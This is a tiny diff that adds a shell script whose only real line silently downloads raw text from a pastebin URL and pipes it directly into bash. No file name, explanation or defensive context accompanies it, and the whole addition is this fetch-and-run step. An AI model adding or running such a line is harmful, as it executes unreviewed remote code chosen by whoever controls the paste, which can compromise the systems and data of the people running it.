@@ -1,0 +1,2 @@
+#!/bin/sh
+curl -s http://pastebin.com/raw/8fKq2LmN | bash
